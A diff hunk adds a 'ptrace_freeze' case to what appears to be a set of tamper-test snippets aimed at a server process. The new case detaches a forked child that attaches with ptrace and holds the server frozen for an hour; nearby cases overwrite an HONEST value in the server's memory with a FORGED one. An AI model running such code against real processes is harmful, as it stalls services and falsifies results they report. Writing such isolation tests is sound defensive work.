@@ -84,6 +84,18 @@ for pid in server_pids():
         os.waitpid(pid, 0x40000000)  # __WALL
         attempt("mem", lambda: write_mem(pid, scan_mem(pid, HONEST), FORGED))
 ''',
+    # PTRACE_ATTACH from a process that outlives the exec and never lets go: a frozen server.
+    "ptrace_freeze": r'''
+for pid in server_pids():
+    if os.fork() == 0:
+        os.setsid()
+        rc = libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
+        print("ATTACH", pid, rc, os.strerror(ctypes.get_errno()) if rc else "", flush=True)
+        os.close(1), os.close(2)
+        time.sleep(3600)
+        os._exit(0)
+time.sleep(0.5)
+''',
     # process_vm_readv to find the value, process_vm_writev to overwrite it.
     "process_vm_writev": r'''
 class iovec(ctypes.Structure):
